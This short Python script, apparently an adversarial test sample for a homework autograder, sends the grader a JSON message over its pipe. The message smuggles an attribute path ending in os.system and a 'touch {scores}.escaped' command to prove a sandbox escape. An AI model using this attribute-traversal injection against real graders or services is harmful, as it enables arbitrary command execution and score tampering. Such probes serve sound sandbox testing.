# base: student
"""Ask the grader over the channel itself for a library name the homework does not list."""
import json
import os
import sys

message = {"library": "dtree.datasets.pd.io.common.os.system",
           "args": {"list": [{"v": "touch {scores}.escaped"}]}, "kwargs": {"dict": []}}
try:
    os.write(int(sys.argv[2]), json.dumps(message).encode() + b"\n")
    os.read(int(sys.argv[1]), 1 << 16)
except (OSError, IndexError, ValueError):
    pass
